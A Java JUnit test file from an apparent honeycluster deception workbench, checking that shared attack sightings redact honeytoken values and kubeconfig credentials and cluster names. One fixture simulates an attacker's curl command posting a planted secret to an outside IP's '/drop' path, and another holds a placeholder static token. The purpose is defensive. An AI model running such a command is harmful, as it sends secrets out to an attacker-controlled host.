package io.stormcenter.workbench.stix;

import static org.assertj.core.api.Assertions.assertThat;

import io.fabric8.kubernetes.api.model.HasMetadata;
import io.fabric8.kubernetes.api.model.Secret;
import io.stormcenter.workbench.deployment.DeploymentRecord;
import io.stormcenter.workbench.deployment.DeploymentState;
import io.stormcenter.workbench.format.TreeFiles;
import io.stormcenter.workbench.heat.ObservedHeat;
import io.stormcenter.workbench.heat.Session;
import io.stormcenter.workbench.heat.SessionRules;
import io.stormcenter.workbench.heat.TimeWindow;
import io.stormcenter.workbench.honeycluster.CompileOptions;
import io.stormcenter.workbench.honeycluster.HoneyclusterCompiler;
import io.stormcenter.workbench.model.AttackTree;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** What a deployment knows that must never be shared: its honeytoken values, its kubeconfig's credentials and names. */
class DeployedSecretsTest {

    @TempDir
    Path folder;

    @Test
    void a_model_never_deployed_protects_the_honeytoken_values_of_the_plan_its_captures_were_replayed_with()
            throws Exception {
        // given the secret-theft sample, never deployed, and the values its default plan plants
        Path model = Files.copy(Path.of("sample-models/secret-theft.json"), folder.resolve("secret-theft.json"));
        AttackTree tree = TreeFiles.read(model).tree();
        List<String> planted = honeytokenValues(tree);

        // when
        DeployedSecrets deployed = DeployedSecrets.forModel(model, tree);

        // then every value is known, and a session whose attacker typed one shares without it
        assertThat(deployed.secrets()).containsAll(planted);
        String value = planted.stream().filter(v -> v.length() >= 8 && !v.matches("(?s).*\\s.*")).findFirst().orElseThrow();
        AttackTree kubecon = ShareFixtures.kubecon();
        List<Session> sessions = ObservedHeat.of(kubecon, SessionRules.defaults(List.of()), TimeWindow.ALL,
                List.of(ShareFixtures.tetragon(0, "tw-sshd-accept", "ssh-bait", "/usr/bin/curl",
                        "-d " + value + " https://203.0.113.5/drop"))).sessions();
        String json = SightingsShare.of(kubecon, sessions, deployed.into(ShareOptions.anonymous()),
                ShareFixtures.T0).json();
        assertThat(json).contains("/usr/bin/curl").doesNotContain(value);
    }

    @Test
    void a_deployment_protects_its_kubeconfigs_inline_credentials_and_cluster_name() throws Exception {
        // given a record of a deployment through a kubeconfig holding a static token
        Path kubeconfig = Files.writeString(folder.resolve("kubeconfig"), """
                apiVersion: v1
                kind: Config
                clusters:
                - name: payments-prod-eu1
                  cluster: {server: "https://k8s.payments.example:6443"}
                users:
                - name: ops-admin
                  user: {token: "static-0p3r4t0r-t0k3n-value"}
                contexts:
                - name: prod
                  context: {cluster: payments-prod-eu1, user: ops-admin}
                current-context: prod
                """);
        AttackTree tree = ShareFixtures.kubecon();
        DeploymentRecord record = new DeploymentRecord("d-1", tree.id(), "hash", "prod", "https://k8s.payments.example:6443",
                kubeconfig.toString(), "inventory-live", 7, List.of(), Instant.EPOCH, Instant.EPOCH,
                DeploymentState.DEPLOYED, null, null, null);

        // when
        DeployedSecrets deployed = DeployedSecrets.of(record, tree);

        // then
        assertThat(deployed.secrets()).contains("static-0p3r4t0r-t0k3n-value");
        assertThat(deployed.names()).contains("payments-prod-eu1", "ops-admin", "k8s.payments.example", "inventory-live");
    }

    private static List<String> honeytokenValues(AttackTree tree) throws Exception {
        List<String> values = new ArrayList<>();
        for (HasMetadata object : new HoneyclusterCompiler().compile(tree, CompileOptions.seeded(1)).objects()) {
            if (object instanceof Secret secret) {
                if (secret.getStringData() != null) {
                    values.addAll(secret.getStringData().values());
                }
                if (secret.getData() != null) {
                    secret.getData().values().forEach(v -> values.add(
                            new String(Base64.getDecoder().decode(v), StandardCharsets.UTF_8)));
                }
            }
        }
        assertThat(values).isNotEmpty();
        return values;
    }
}
